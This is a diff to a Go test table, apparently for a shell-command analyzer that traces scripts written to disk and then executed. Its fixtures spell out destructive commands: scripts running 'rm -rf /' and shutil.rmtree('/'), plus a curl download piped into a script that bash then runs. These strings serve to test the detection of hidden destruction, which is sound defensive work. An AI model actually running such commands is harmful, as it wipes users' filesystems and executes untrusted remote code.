@@ -11,7 +11,7 @@ var writtenScriptCases = []commandCase{
 	{"printf '#!/bin/sh\\nrm -rf /\\n' > r.sh; ./r.sh", []string{
 		`printf '#!/bin/sh\nrm -rf /\n'`, "./r.sh", "rm -rf / via=script ./r.sh"}},
 	{"printf 'import shutil\\nshutil.rmtree(\"/\")\\n' > c.py; python3 c.py", []string{
-		`printf 'import shutil\nshutil.rmtree("/")\n'`, "python3 c.py", "rm -rf / via=python3 code"}},
+		`printf 'import shutil\nshutil.rmtree("/")\n'`, "python3 c.py code=python:'file c.py'", "rm -rf / via=python3 code"}},
 	// Output that is not known makes the file unknown again.
 	{"echo ls > s.sh; curl -s https://x.example.com > s.sh; bash s.sh", []string{
 		"echo ls", "curl -s https://x.example.com", "bash s.sh"}},
